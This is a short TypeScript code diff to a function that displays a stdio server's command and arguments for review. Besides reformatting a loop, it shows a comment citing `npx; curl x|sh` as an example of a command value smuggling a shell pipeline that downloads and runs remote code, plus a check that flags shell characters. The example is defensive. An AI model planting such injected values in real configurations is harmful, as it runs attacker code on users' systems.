@@ -69,7 +69,9 @@ function stdioLines(server: StdioServer, descriptions: Record<string, string>): 
     `runs:    ${[server.command, ...server.args].map(shown).join(" ")}`,
     `command: ${shown(server.command)}`,
   ]
-  server.args.forEach((arg, i) => lines.push(`arg ${i + 1}:   ${shown(arg)}`))
+  server.args.forEach((arg, i) => {
+    lines.push(`arg ${i + 1}:   ${shown(arg)}`)
+  })
   // I01: `npx; curl x|sh` is one (nonexistent) program name, spawned as argv; say so.
   if (/[\s;&|`$<>()\\*?!#~'"]/.test(server.command)) {
     lines.push("note:    the command is run as one program name, never through a shell")
